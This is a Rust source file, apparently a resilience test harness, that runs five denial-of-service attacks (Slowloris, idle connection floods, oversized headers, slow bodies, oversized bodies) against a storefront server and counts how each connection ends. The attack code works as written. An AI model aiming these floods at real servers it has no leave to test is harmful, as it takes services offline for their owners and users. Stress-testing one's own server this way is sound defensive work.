//! The attacks: raw connections that do one bad thing each, and count what becomes of them.

use std::{
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout},
};

/// A byte now and then keeps a careless server waiting for ever.
const DRIP_EVERY: Duration = Duration::from_secs(1);
/// Connections are opened in groups, so that the kernel's queue for new ones is not all that is tested.
const GROUP: usize = 200;
const GROUP_PAUSE: Duration = Duration::from_millis(20);
/// A connection that is not taken this soon is counted as left outside.
const CONNECT_WITHIN: Duration = Duration::from_secs(2);
/// Far more than any storefront reads.
const HUGE_BYTES: usize = 256 * 1024;
const READ_WITHIN: Duration = Duration::from_secs(5);

/// One way of meaning no good.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Attack {
    /// Heads of requests that never end.
    Slowloris,
    /// Connections that say nothing, as many as the storefront takes and more.
    Idle,
    /// Heads that are too large, one after the other.
    HugeHeads,
    /// Bodies that arrive a byte a second.
    SlowBodies,
    /// Bodies that are too large, one after the other.
    HugeBodies,
}

impl Attack {
    pub(super) const ALL: [Self; 5] =
        [Self::Slowloris, Self::Idle, Self::HugeHeads, Self::SlowBodies, Self::HugeBodies];

    pub(super) fn what(self) -> &'static str {
        match self {
            Self::Slowloris => "500 endless heads",
            Self::Idle => "8500 idle connections",
            Self::HugeHeads => "huge heads",
            Self::SlowBodies => "500 slow bodies",
            Self::HugeBodies => "huge bodies",
        }
    }

    fn connections(self) -> usize {
        match self {
            Self::Slowloris | Self::SlowBodies => 500,
            // The cap of a storefront is 8,000.
            Self::Idle => 8_500,
            Self::HugeHeads | Self::HugeBodies => 8,
        }
    }

    fn opening(self) -> Vec<u8> {
        let post = |length: usize| {
            format!(
                "POST /api/cart/lines HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
            )
        };
        match self {
            Self::Slowloris => b"GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ".to_vec(),
            Self::Idle => Vec::new(),
            Self::HugeHeads => {
                let mut head = b"GET / HTTP/1.1\r\nHost: shop\r\nX-Huge: ".to_vec();
                head.resize(HUGE_BYTES, b'a');
                head
            }
            Self::SlowBodies => post(10_000).into_bytes(),
            Self::HugeBodies => {
                let mut request = post(64 * HUGE_BYTES).into_bytes();
                request.resize(HUGE_BYTES, b' ');
                request
            }
        }
    }

    fn repeats(self) -> bool {
        matches!(self, Self::HugeHeads | Self::HugeBodies)
    }
}

#[derive(Debug, Default)]
struct Told {
    open: AtomicU64,
    outside: AtomicU64,
    /// Closed by the storefront, with an answer or without one.
    answered: AtomicU64,
    closed: AtomicU64,
}

/// An attack under way. Dropped, it ends.
#[derive(Debug)]
pub(super) struct Attackers {
    tasks: JoinSet<()>,
    told: Arc<Told>,
}

impl Attackers {
    pub(super) async fn begin(attack: Attack, address: &str) -> anyhow::Result<Self> {
        let address: std::net::SocketAddr = address.parse()?;
        let (mut tasks, told) = (JoinSet::new(), Arc::<Told>::default());
        for number in 0..attack.connections() {
            let told = Arc::clone(&told);
            tasks.spawn(async move {
                loop {
                    one(attack, address, &told).await;
                    if !attack.repeats() {
                        break;
                    }
                    sleep(GROUP_PAUSE).await;
                }
            });
            if number % GROUP == GROUP - 1 {
                sleep(GROUP_PAUSE).await;
            }
        }
        Ok(Self { tasks, told })
    }

    /// Ends the attack and says what became of it.
    pub(super) async fn end(&mut self) -> String {
        self.tasks.shutdown().await;
        let count = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
        let Told { open, outside, answered, closed } = &*self.told;
        format!(
            "attackers: {} connections, {} not taken, {} answered, {} closed in silence",
            count(open),
            count(outside),
            count(answered),
            count(closed)
        )
    }
}

/// One connection, until the storefront closes it.
async fn one(attack: Attack, address: std::net::SocketAddr, told: &Told) {
    let add = |counter: &AtomicU64| counter.fetch_add(1, Ordering::Relaxed);
    let Ok(Ok(mut stream)) = timeout(CONNECT_WITHIN, TcpStream::connect(address)).await else {
        add(&told.outside);
        return;
    };
    add(&told.open);
    // A storefront that has heard enough answers and closes before all is written; that is its right.
    let _ = timeout(READ_WITHIN, stream.write_all(&attack.opening())).await;
    let mut answer = [0; 512];
    loop {
        let read = if attack.repeats() {
            timeout(READ_WITHIN, stream.read(&mut answer)).await.unwrap_or(Ok(0))
        } else {
            tokio::select! {
                read = stream.read(&mut answer) => read,
                () = sleep(DRIP_EVERY) => {
                    if attack != Attack::Idle && stream.write_all(b"a").await.is_err() {
                        Ok(0)
                    } else {
                        continue;
                    }
                }
            }
        };
        match read {
            Ok(bytes) if bytes > 0 => {
                add(&told.answered);
                return;
            }
            _ => {
                add(&told.closed);
                return;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_attack_says_what_it_is_and_sends_it() {
        assert!(Attack::Slowloris.opening().ends_with(b"X-Slow: "), "the head has no end");
        assert_eq!(Attack::HugeHeads.opening().len(), HUGE_BYTES);
        assert!(Attack::Idle.opening().is_empty());
        let body = String::from_utf8(Attack::SlowBodies.opening()).unwrap();
        assert!(body.contains("Content-Length: 10000\r\n\r\n"));
    }
}
